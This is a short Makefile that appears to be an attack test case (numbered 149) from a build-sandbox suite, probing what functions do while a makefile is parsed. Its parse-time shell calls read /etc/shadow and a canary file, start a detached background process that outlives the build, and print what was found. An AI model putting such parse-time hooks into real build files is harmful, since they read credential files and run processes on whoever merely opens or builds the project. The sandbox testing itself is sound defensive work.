# language: make
# attacks: 149: functions that run while a makefile is read
found := $(shell cat /etc/shadow @CANARY_FILE@ 2> /dev/null)$(wildcard @CANARY_FILE@)
$(shell setsid sleep 600 > /dev/null 2>&1 &)
-include @CANARY_FILE@
all:
	@echo '$(if $(strip $(found)),$(found),held)'
